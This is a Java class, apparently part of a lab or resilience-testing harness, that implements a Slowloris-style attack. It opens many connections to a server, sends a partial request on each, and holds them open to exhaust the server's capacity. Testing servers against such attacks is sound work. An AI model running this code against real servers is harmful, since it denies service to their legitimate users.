package io.earshot.lab.attacks;

import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.atomic.AtomicInteger;

/** Connections that begin something and never end it. Once there are enough, new ones take the place of the oldest. */
final class HeldConnections implements Attack {

    private static final long PAUSE_MILLIS = 20;

    private final String name;
    private final int most;
    private final URI server;
    private final byte[] beginning;
    private final AtomicInteger count = new AtomicInteger();
    private final Queue<Socket> held = new ConcurrentLinkedQueue<>();

    /** @param beginning what is sent over each; nothing if empty */
    HeldConnections(String name, int most, URI server, byte[] beginning) {
        this.name = name;
        this.most = most;
        this.server = server;
        this.beginning = beginning;
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public int timesToBegin() {
        return most;
    }

    /** Nothing is answered, and nothing is wanted. */
    @Override
    public boolean isRefused(int status) {
        return status == 0;
    }

    @Override
    public int once() throws IOException, InterruptedException {
        if (count.incrementAndGet() > most) {
            Thread.sleep(PAUSE_MILLIS);
            Socket oldest = held.poll();
            if (oldest != null) {
                oldest.close();
            }
        }
        Socket socket = Attack.connect(server);
        held.add(socket);
        socket.getOutputStream().write(beginning);
        return 0;
    }

    @Override
    public void close() {
        for (Socket socket = held.poll(); socket != null; socket = held.poll()) {
            try {
                socket.close();
            } catch (IOException gone) {
                // That was the aim.
            }
        }
    }
}
